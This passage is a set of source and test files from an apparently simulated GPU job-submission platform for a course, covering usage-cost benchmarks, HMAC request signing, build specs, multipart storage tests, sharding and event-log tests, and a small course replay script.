             "share_pct": round(100 * row["share"], 2)}
            for row in report["tenants"]
        ],
    }


def _cpu_seconds(metering_enabled: bool) -> float:
    config = SystemConfig()
    config.usage_metering_enabled = metering_enabled
    start = time.process_time()
    run_hotpath(MEDIUM_SCALE, config=config)
    return time.process_time() - start


def _overhead_run():
    _cpu_seconds(True)   # warmup pair
    _cpu_seconds(False)
    samples = [(_cpu_seconds(True), _cpu_seconds(False))
               for _ in range(_ROUNDS)]
    on = min(s for s, _ in samples)
    off = min(s for _, s in samples)
    overhead = (on / off - 1.0) if off > 0 else 0.0
    return {
        "scale": MEDIUM_SCALE.name,
        "submissions": MEDIUM_SCALE.n_students
        * (MEDIUM_SCALE.n_resubmissions + 1),
        "cpu_s_metering_on": round(on, 4),
        "cpu_s_metering_off": round(off, 4),
        "overhead_pct": round(100 * overhead, 2),
    }


def test_usage_attribution_and_overhead(benchmark):
    def run_both():
        return _attribution_run(), _overhead_run()

    attribution, overhead = benchmark.pedantic(run_both, rounds=1,
                                               iterations=1)

    print_banner("repro.obs.usage — cost attribution "
                 f"({attribution['teams']} teams, "
                 f"{attribution['jobs']} jobs)")
    print(f"{'team':<10}{'cont s':>9}{'gpu s':>9}{'cost':>11}"
          f"{'share':>8}")
    for row in attribution["tenants"]:
        print(f"{row['team']:<10}{row['container_seconds']:>9.1f}"
              f"{row['gpu_seconds']:>9.1f}"
              f"{row['cost_usd']:>11.4f}{row['share_pct']:>7.1f}%")
    print(f"\nfleet ${attribution['fleet_cost_usd']:.4f} = "
          f"attributed ${attribution['attributed_cost_usd']:.4f} + "
          f"idle/overhead ${attribution['idle_cost_usd']:.4f}")
    print("conservation residual: "
          f"${attribution['conservation_residual_usd']:.2e} live, "
          f"${attribution['restored_conservation_residual_usd']:.2e} "
          "after restore (budget 1e-6)")

    print_banner("repro.obs.usage — metering overhead "
                 f"(medium scale, min of {_ROUNDS})")
    print(f"on {overhead['cpu_s_metering_on']:.3f}s  "
          f"off {overhead['cpu_s_metering_off']:.3f}s  "
          f"overhead {overhead['overhead_pct']:.1f}% (budget 5%)")

    # --- acceptance bar: metering costs < 5% at medium scale -----------
    assert overhead["overhead_pct"] < 5.0

    payload = {
        "bench": "usage",
        "source": "benchmarks/bench_usage.py",
        "rounds_per_side": _ROUNDS,
        "attribution": attribution,
        "overhead": overhead,
    }
    with open(_OUT_PATH, "w") as fh:
        json.dump(payload, fh, indent=1)
        fh.write("\n")
    print(f"\nwrote {_OUT_PATH}")
