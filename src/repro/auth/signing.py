"""HMAC request signing.

Job messages travel through a shared broker, so the worker re-checks
credentials on receipt (§V, Worker Operations step 2).  Rather than placing
the secret key in the message, the client signs a canonical digest of the
request with it; the worker recomputes the signature from the key store's
copy of the secret.  Replays are bounded by the embedded timestamp.
"""

from __future__ import annotations

import hashlib
import hmac
import json
from typing import Any

from repro.errors import SignatureMismatch


def _canonical(payload: Any) -> bytes:
    return json.dumps(payload, sort_keys=True, separators=(",", ":")
                      ).encode("utf-8")


def sign_request(secret_key: str, payload: Any, timestamp: float) -> str:
    """Signature over ``payload`` at ``timestamp`` using ``secret_key``."""
    body = _canonical({"payload": payload, "ts": round(float(timestamp), 6)})
    return hmac.new(secret_key.encode("utf-8"), body,
                    hashlib.sha256).hexdigest()


def verify_request(secret_key: str, payload: Any, timestamp: float,
                   signature: str, now: float = None,
                   max_age: float = 3600.0) -> None:
    """Raise :class:`SignatureMismatch` unless the signature verifies."""
    expected = sign_request(secret_key, payload, timestamp)
    if not hmac.compare_digest(expected, signature):
        raise SignatureMismatch("request signature does not verify")
    if now is not None and abs(now - timestamp) > max_age:
        raise SignatureMismatch(
            f"request timestamp too old ({now - timestamp:.0f}s)")
