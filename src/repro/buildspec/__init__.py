"""The ``rai-build.yml`` build specification (§V, Listings 1 & 2).

A build spec names the sandbox base image and the command list the worker
executes inside it::

    rai:
      version: '0.1'
      image: webgpu/rai:root
    commands:
      build:
        - cmake /src
        - make

Version ``0.2`` adds the §V "machine requirements" extension: an optional
``resources`` section requesting GPUs/memory.  Parsing and rendering are
exact inverses (``parse_build_spec(render_build_spec(spec)) == spec``).
"""

from repro.buildspec.spec import (
    CACHEABLE_PROGRAMS,
    RaiBuildSpec,
    ResourceRequest,
    SUPPORTED_VERSIONS,
    command_cacheable,
)
from repro.buildspec.parser import parse_build_spec, render_build_spec
from repro.buildspec.defaults import (
    DEFAULT_BUILD_YAML,
    FINAL_SUBMISSION_YAML,
    default_build_spec,
    final_submission_spec,
)

__all__ = [
    "CACHEABLE_PROGRAMS",
    "RaiBuildSpec",
    "ResourceRequest",
    "SUPPORTED_VERSIONS",
    "command_cacheable",
    "parse_build_spec",
    "render_build_spec",
    "DEFAULT_BUILD_YAML",
    "FINAL_SUBMISSION_YAML",
    "default_build_spec",
    "final_submission_spec",
]
