"""Unit tests for multipart uploads."""

import pytest

from repro.errors import StorageError, UploadNotFound
from repro.storage import ObjectStore


@pytest.fixture
def store(sim):
    s = ObjectStore(sim)
    s.create_bucket("b")
    return s


class TestMultipart:
    def test_out_of_order_parts_assemble(self, store):
        up = store.initiate_multipart("b", "big")
        up.upload_part(2, b"world")
        up.upload_part(1, b"hello ")
        obj = up.complete()
        assert obj.data == b"hello world"
        assert obj.etag.endswith("-2")

    def test_reupload_replaces_part(self, store):
        up = store.initiate_multipart("b", "k")
        up.upload_part(1, b"bad")
        up.upload_part(1, b"good")
        assert up.complete().data == b"good"

    def test_gap_in_parts_rejected(self, store):
        up = store.initiate_multipart("b", "k")
        up.upload_part(1, b"a")
        up.upload_part(3, b"c")
        with pytest.raises(StorageError, match="non-contiguous"):
            up.complete()

    def test_empty_complete_rejected(self, store):
        up = store.initiate_multipart("b", "k")
        with pytest.raises(StorageError):
            up.complete()

    def test_part_numbers_start_at_one(self, store):
        up = store.initiate_multipart("b", "k")
        with pytest.raises(StorageError):
            up.upload_part(0, b"x")

    def test_abort_discards(self, store):
        up = store.initiate_multipart("b", "k")
        up.upload_part(1, b"x")
        up.abort()
        assert not store.object_exists("b", "k")
        with pytest.raises(UploadNotFound):
            up.upload_part(2, b"y")

    def test_staged_bytes(self, store):
        up = store.initiate_multipart("b", "k")
        up.upload_part(1, b"12345")
        assert up.staged_bytes == 5

    def test_metadata_carried(self, store):
        up = store.initiate_multipart("b", "k", metadata={"kind": "final"})
        up.upload_part(1, b"x")
        assert up.complete().metadata == {"kind": "final"}
