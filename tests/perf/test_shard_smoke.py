"""Sharding off must cost nothing: N=1 identity and overhead smoke.

Tier-1 guard for the shard PR's acceptance bar — ``shards=1`` is not an
"equivalent mode", it is byte-for-byte the pre-shard control plane: the
same delivery order (golden digest), and wall clock within noise of the
default config (the only added work is a config check at construction).
"""

import pytest

from repro.core.config import SystemConfig
from repro.workload.hotpath import SMOKE_SCALE, run_hotpath
from repro.workload.shardbench import GOLDEN_DIGEST, control_plane_digest

pytestmark = [pytest.mark.perf, pytest.mark.shard]


def test_shards_one_reproduces_the_golden_digest():
    digest, statuses, n = control_plane_digest(
        config=SystemConfig(shards=1))
    assert digest == GOLDEN_DIGEST
    assert statuses == ["succeeded"]
    assert n == 18


def test_default_config_reproduces_the_golden_digest():
    digest, _, _ = control_plane_digest()
    assert digest == GOLDEN_DIGEST


def test_shards_one_wall_clock_overhead_under_five_percent():
    # Min-of-3 each side damps scheduler noise; the minimum is the
    # closest observable to the true cost of the code path.
    sharded_off = min(
        run_hotpath(SMOKE_SCALE,
                    config=SystemConfig(shards=1))["wall_clock_s"]
        for _ in range(3))
    default = min(run_hotpath(SMOKE_SCALE)["wall_clock_s"]
                  for _ in range(3))
    ratio = sharded_off / default if default > 0 else 1.0
    assert ratio < 1.05, (
        f"shards=1 overhead {100 * (ratio - 1):.1f}% exceeds 5% budget "
        f"(shards=1 {sharded_off:.3f}s default {default:.3f}s)")
