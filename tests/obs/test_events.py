"""Unit + integration tests for the structured event log."""

import json

import pytest

from repro.core.config import SystemConfig
from repro.core.job import JobStatus
from repro.core.system import RaiSystem
from repro.obs.events import Event, EventLog, EventType

pytestmark = [pytest.mark.obs, pytest.mark.slo]

FILES = {
    "main.cu": "// @rai-sim quality=0.8 impl=analytic\n",
    "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
}


class FakeClock:
    def __init__(self):
        self.now = 0.0

    def __call__(self):
        return self.now


@pytest.fixture
def clock():
    return FakeClock()


@pytest.fixture
def log(clock):
    return EventLog(clock=clock, max_events=100)


def _submit_one(system, team):
    client = system.new_client(team=team)
    client.stage_project(FILES)
    return system.run(client.submit())


class TestEventLogUnit:
    def test_emit_stamps_clock_and_fields(self, log, clock):
        clock.now = 12.5
        event = log.emit("job.state_change", job_id="j1", team="t",
                         status="queued")
        assert event.time == 12.5
        assert event.job_id == "j1"
        assert event.team == "t"
        assert event.fields["status"] == "queued"
        assert len(log) == 1

    def test_span_donates_trace_ids(self, log, clock):
        class FakeSpan:
            trace_id = "trace-1"
            span_id = "span-1"

        event = log.emit("x", span=FakeSpan())
        assert event.trace_id == "trace-1"
        assert event.span_id == "span-1"
        # Explicit ids win over the span's.
        event2 = log.emit("x", span=FakeSpan(), trace_id="other")
        assert event2.trace_id == "other"

    def test_noop_span_degrades_to_unlinked(self, log):
        from repro.obs.span import NOOP_SPAN

        event = log.emit("x", span=NOOP_SPAN)
        assert event.trace_id is None
        assert event.span_id is None

    def test_disabled_log_emits_nothing(self, clock):
        log = EventLog(clock=clock, enabled=False)
        assert log.emit("x", a=1) is None
        assert len(log) == 0
        assert log.total_emitted == 0

    def test_ring_overflow_tracks_drops(self, clock):
        log = EventLog(clock=clock, max_events=3)
        for i in range(5):
            log.emit("x", i=i)
        assert len(log) == 3
        assert log.total_emitted == 5
        assert log.dropped == 2
        assert [e.fields["i"] for e in log] == [2, 3, 4]
        # Per-type tallies survive truncation.
        assert log.counts["x"] == 5
        assert log.stats()["by_type"] == {"x": 5}

    def test_ring_sampling_thins_window_not_counts(self, clock):
        log = EventLog(clock=clock, max_events=100,
                       sample={"job.state_change": 4})
        kept = [log.emit("job.state_change", i=i) for i in range(16)]
        # Exact tallies: sampling never touches rates.
        assert log.total_emitted == 16
        assert log.counts["job.state_change"] == 16
        # The ring holds one in four, starting with the first.
        assert len(log) == 4
        assert [e.fields["i"] for e in log] == [0, 4, 8, 12]
        # Sampled-out emissions return None, retained ones the record.
        assert [e.fields["i"] for e in kept if e is not None] == \
            [0, 4, 8, 12]
        assert log.dropped == 12
        # Unlisted types are always retained alongside.
        log.emit("alert.fired", i=99)
        assert [e.fields["i"] for e in log] == [0, 4, 8, 12, 99]

    def test_sample_rate_must_be_positive(self, clock):
        with pytest.raises(ValueError):
            EventLog(clock=clock, sample={"x": 0})

    def test_recycled_ring_reuses_event_objects(self, clock):
        # At capacity the evicted record's carcass (object and fields
        # dict) is reused in place — steady-state emission allocates
        # nothing beyond the caller's kwargs.
        log = EventLog(clock=clock, max_events=2)
        first = log.emit("x", i=0)
        first_fields = first.fields
        log.emit("x", i=1)
        recycled = log.emit("y", i=2)
        assert recycled is first
        assert recycled.fields is first_fields
        assert recycled.type == "y"
        assert recycled.fields == {"i": 2}
        assert [e.fields["i"] for e in log] == [1, 2]

    def test_query_filters_and_limit(self, log, clock):
        clock.now = 1.0
        log.emit("job.state_change", job_id="j1", team="a", status="queued")
        clock.now = 2.0
        log.emit("pool.hit", worker="w1")
        clock.now = 3.0
        log.emit("pool.miss", worker="w1")
        clock.now = 4.0
        log.emit("job.state_change", job_id="j2", team="b",
                 status="succeeded", trace_id="tr-2")

        assert len(log.query(type="pool.hit")) == 1
        assert len(log.query(prefix="pool.")) == 2
        assert len(log.query(job_id="j1")) == 1
        assert [e.team for e in log.query(team="b")] == ["b"]
        assert len(log.query(trace_id="tr-2")) == 1
        assert len(log.query(since=2.0, until=3.0)) == 2
        assert [e.type for e in log.query(limit=2)] == \
            ["pool.miss", "job.state_change"]
        assert log.events_for_job("j2")[0].fields["status"] == "succeeded"

    def test_tail(self, log):
        for i in range(5):
            log.emit("x", i=i)
        assert [e.fields["i"] for e in log.tail(2)] == [3, 4]
        assert log.tail(0) == []

    def test_export_jsonl_round_trips(self, log, clock, tmp_path):
        clock.now = 7.0
        log.emit("a.b", trace_id="tr", job_id="j", n=3)
        path = tmp_path / "events.jsonl"
        text = log.export_jsonl(str(path))
        assert path.read_text() == text
        record = json.loads(text.strip())
        assert record == {"t": 7.0, "type": "a.b", "trace_id": "tr",
                          "fields": {"job_id": "j", "n": 3}}
        # An empty log exports an empty document, not a stray newline.
        assert EventLog(clock=clock).export_jsonl() == ""

    def test_event_repr_and_to_dict(self):
        event = Event(1.0, "x", fields={"k": "v"})
        assert "x" in repr(event)
        assert event.to_dict()["fields"] == {"k": "v"}


class TestEventsThroughTheStack:
    """One clean submission leaves a coherent audit trail."""

    def test_job_lifecycle_events(self):
        system = RaiSystem.standard(num_workers=1, seed=11)
        result = _submit_one(system, "alpha")
        assert result.status is JobStatus.SUCCEEDED
        trail = system.events.events_for_job(result.job_id)
        statuses = [e.fields.get("status") for e in trail
                    if e.type == EventType.JOB_STATE_CHANGE]
        assert statuses == ["queued", "accepted", "running", "succeeded"]
        # Every lifecycle event links to the submission's trace.
        trace = system.tracer.trace_for_job(result.job_id)
        assert all(e.trace_id == trace.trace_id for e in trail
                   if e.type == EventType.JOB_STATE_CHANGE)
        # Dispatch + pool events also landed.
        assert system.events.query(type="sched.dispatch",
                                   job_id=result.job_id)
        assert system.events.query(prefix="pool.")
        # Slot-open events from worker construction.
        assert system.events.query(type=EventType.WORKER_SLOT)

    def test_crash_redelivery_events(self):
        system = RaiSystem.standard(num_workers=1, seed=66)
        system.start_caretaker(interval=30.0, in_flight_timeout=600.0)
        victim = system.workers[0]
        client = system.new_client(team="resilient")
        client.stage_project(FILES)
        job_proc = system.sim.process(client.submit())

        def chaos(sim):
            yield sim.timeout(5.0)
            victim.crash()
            yield sim.timeout(60.0)
            system.add_worker()

        system.sim.process(chaos(system.sim))
        result = system.run(job_proc)
        assert result.status is JobStatus.SUCCEEDED
        events = system.events
        assert events.query(type=EventType.WORKER_CRASH,
                            team=None)[0].fields["worker"] == victim.id
        redelivers = events.query(type=EventType.BROKER_REDELIVER,
                                  job_id=result.job_id)
        assert redelivers and redelivers[0].fields["attempt"] == 2
        # The redeliver event links into the same trace as the job.
        trace = system.tracer.trace_for_job(result.job_id)
        assert redelivers[0].trace_id == trace.trace_id

    def test_fault_injection_lands_in_event_log(self):
        from repro.faults import FaultPlan, WorkerCrashFault

        system = RaiSystem.standard(num_workers=2, seed=5)
        system.start_caretaker(interval=30.0, in_flight_timeout=600.0)
        plan = FaultPlan(worker_crashes=[
            WorkerCrashFault(window=(4.0, 6.0), restart_after=60.0)])
        system.start_fault_plan(plan)
        result = _submit_one(system, "chaos-team")
        assert result.status is JobStatus.SUCCEEDED
        injected = system.events.query(type=EventType.FAULT_INJECTED)
        assert injected
        assert injected[0].fields["kind"] == "worker_crash"
        # Legacy monitor log preserved alongside.
        assert system.monitor.events_of("fault_injected")

    def test_disabled_event_log_changes_no_timeline(self):
        quiet = SystemConfig(event_log_enabled=False)
        system_off = RaiSystem.standard(num_workers=1, seed=11,
                                        config=quiet)
        system_on = RaiSystem.standard(num_workers=1, seed=11)
        result_off = _submit_one(system_off, "alpha")
        result_on = _submit_one(system_on, "alpha")
        assert len(system_off.events) == 0
        assert result_off.finished_at == result_on.finished_at
