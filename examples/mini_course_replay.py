#!/usr/bin/env python
"""A miniature course replay: the Figure 2 / Figure 4 pipeline, small.

Runs the full behavioural course simulation (team formation, credential
emails, the manual G2→P2 provisioning schedule, circadian + deadline
submission behaviour, final submissions) at 1/5 scale so it finishes in
~20 seconds, then prints the two figures.  The benchmarks in
``benchmarks/`` run the same pipeline at the paper's full 176-student
scale.

Run:  python examples/mini_course_replay.py
"""

from repro.analysis import ascii_histogram, ascii_timeline, format_bytes
from repro.workload.behavior import DAY
from repro.workload.course import CourseConfig, CourseSimulation


def main() -> None:
    config = CourseConfig(
        n_students=36,
        n_teams=12,
        duration_days=10.0,
        seed=408,
        final_week_instances=8,
    )
    print(f"replaying: {config.n_students} students, {config.n_teams} "
          f"teams, {config.duration_days:.0f} days ...")
    simulation = CourseSimulation(config)
    result = simulation.run()

    totals = result.totals()
    print(f"\nsubmissions: {totals['submissions']}   "
          f"uploaded: {format_bytes(totals['uploaded_bytes'])}   "
          f"file server: {format_bytes(totals['file_server_bytes'])}   "
          f"fleet cost: ${totals['cost_usd']:.0f}")

    print("\n=== Figure 2 (mini): top team final runtimes, 0.1s bins ===")
    print(ascii_histogram(result.top_runtimes(config.n_teams),
                          bin_width=0.1, collapse_after=2.0))

    window = min(7.0, config.duration_days)
    start = (config.duration_days - window) * DAY
    end = config.duration_days * DAY
    times = [t for t in result.submission_times if start <= t < end]
    print(f"\n=== Figure 4 (mini): submissions/hour, last "
          f"{window:.0f} days ===")
    print(ascii_timeline(times, start, end))

    print("\n=== final leaderboard (top 5) ===")
    for row in simulation.system.ranking.leaderboard(limit=5):
        print(f"  #{row['rank']} {row['team']:<10} "
              f"{row['internal_time']:7.3f}s  "
              f"acc={row['correctness']:.2f}")


if __name__ == "__main__":
    main()
